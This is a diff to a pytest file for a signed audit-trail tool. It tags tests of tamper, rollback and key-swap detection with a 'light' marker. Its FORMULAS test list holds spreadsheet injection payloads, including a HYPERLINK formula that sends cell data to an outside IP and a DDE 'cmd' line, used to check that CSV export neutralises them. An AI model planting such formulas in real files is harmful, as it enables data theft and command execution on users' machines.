@@ -225,6 +225,7 @@ CASES: dict[str, tuple[Callable[[Plant, dict], None], str]] = {
 }
 
 
+@pytest.mark.light
 @pytest.mark.parametrize("name", CASES)
 def test_tampering_is_detected_by_verify_and_the_cli(name, plant, pristine):
     attack, reason = CASES[name]
@@ -245,6 +246,7 @@ def test_tampering_is_detected_by_verify_and_the_cli(name, plant, pristine):
     assert not trail.verify().ok
 
 
+@pytest.mark.light
 def test_a_roll_back_to_an_older_signed_copy_is_caught_only_by_a_witness(plant, pristine, tmp_path):
     _, head_at_100, copy_at_100 = pristine
     witnessed = plant.cli("head", "--json")
@@ -266,6 +268,7 @@ def test_a_roll_back_to_an_older_signed_copy_is_caught_only_by_a_witness(plant, 
     assert cli.returncode == 1 and "rolled back" in " ".join(cli.stderr.split()), cli
 
 
+@pytest.mark.light
 def test_a_wiped_trail_looks_new_and_only_a_witness_catches_it(plant, tmp_path):
     head = SignedHead.parse(plant.cli("head", "--json").stdout)
     shutil.rmtree(plant.home)  # database, signed head and public key: all gone
@@ -275,6 +278,7 @@ def test_a_wiped_trail_looks_new_and_only_a_witness_catches_it(plant, tmp_path):
     assert "rolled back" in without_key.verify([head]).reason
 
 
+@pytest.mark.light
 def test_a_rewrite_re_signed_with_the_key_is_caught_only_by_a_witness(plant, tmp_path):
     witness = tmp_path / "witness.json"  # a JSON list this time
     witness.write_text(json.dumps([json.loads(plant.cli("head", "--json").stdout)]))
@@ -288,6 +292,7 @@ def test_a_rewrite_re_signed_with_the_key_is_caught_only_by_a_witness(plant, tmp
     assert f"record {RECORDS} is not the one a witness saw" in " ".join(cli.stderr.split())
 
 
+@pytest.mark.light
 def test_an_empty_or_garbled_witness_file_is_an_error_not_an_ok(plant, tmp_path):
     witness = tmp_path / "witness.jsonl"
     for text, reason in (("\n", "holds no heads"), ('{"seq": 1}\n', "line 1: not a signed head")):
@@ -296,6 +301,7 @@ def test_an_empty_or_garbled_witness_file_is_an_error_not_an_ok(plant, tmp_path)
         assert cli.returncode == 2 and reason in " ".join(cli.stderr.split()), cli
 
 
+@pytest.mark.light
 def test_a_witness_from_another_key_or_with_a_bad_signature_fails(plant):
     head = SignedHead.parse(plant.cli("head", "--json").stdout)
     other = sign_head(AuditSigner(Ed25519PrivateKey.generate()), head.seq, head.hash)
@@ -306,6 +312,7 @@ def test_a_witness_from_another_key_or_with_a_bad_signature_fails(plant):
     assert plant.trail().verify([head]).ok
 
 
+@pytest.mark.light
 def test_without_the_key_file_the_public_key_counts_only_with_a_witness(plant, tmp_path):
     head = SignedHead.parse(plant.cli("head", "--json").stdout)
     elsewhere = AuditTrail(plant.db, key_file=tmp_path / "no-such.key")  # e.g. QA's own account
@@ -316,6 +323,7 @@ def test_without_the_key_file_the_public_key_counts_only_with_a_witness(plant, t
     assert "public key was swapped" in elsewhere.verify([head]).reason
 
 
+@pytest.mark.light
 def test_the_key_file_is_private_outside_the_home_and_pinned(tmp_path):
     plant = Plant(tmp_path / "home", tmp_path / "config" / "copilot" / "audit.key")
     exported = plant.cli("export", "--format", "json")  # the export's own record signs a head
@@ -332,6 +340,7 @@ def test_the_key_file_is_private_outside_the_home_and_pinned(tmp_path):
     assert not inside.key.exists()
 
 
+@pytest.mark.light
 def test_appending_with_another_or_a_lost_key_is_refused_and_no_key_is_made(plant, tmp_path):
     before = plant.trail().head()
     other = AuditTrail(plant.db, key_file=tmp_path / "other.key")
@@ -348,6 +357,7 @@ FORMULAS = ['=HYPERLINK("http://10.66.6.6/?"&A1,"Open")', "@SUM(1+1)*cmd|' /C ca
             "+1+1", "-2+3", "\t=1", "\r=1", "'=already quoted"]
 
 
+@pytest.mark.light
 def test_csv_export_neutralises_formulas_and_stays_recomputable(plant):
     trail = plant.trail()
     for name in FORMULAS:  # failed logins: the user name is whatever was typed
